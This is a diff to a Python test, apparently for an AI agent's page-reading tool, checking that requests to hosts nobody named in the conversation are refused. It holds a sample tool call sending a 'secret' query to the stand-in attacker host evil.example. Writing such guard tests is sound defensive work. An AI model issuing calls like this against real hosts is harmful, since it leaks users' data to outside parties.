@@ -89,6 +89,10 @@ async def test_read_page_reads_only_hosts_the_conversation_names(port: int) -> N
             [call("read_page", f'{{"url": "http://evil.example:{port}/q?s=secret"}}')]
         )
         assert evil.status == "error" and "evil.example is not one" in evil.content
+        refused = call("read_page", f'{{"url": "http://evil.example:{port}/q?s=secret"}}')
+        named = call("read_page", f'{{"url": "http://wiki.example.org:{port}/a"}}')
+        assert answer.status([refused]) == "not reading a page nobody named …"
+        assert answer.status([named]) == "reading wiki.example.org …"
         assert "the members named in this conversation" in evil.content
         [next_part] = await answer.run(
             [call("read_page", f'{{"url": "http://docs.example.net:{port}/b"}}')]
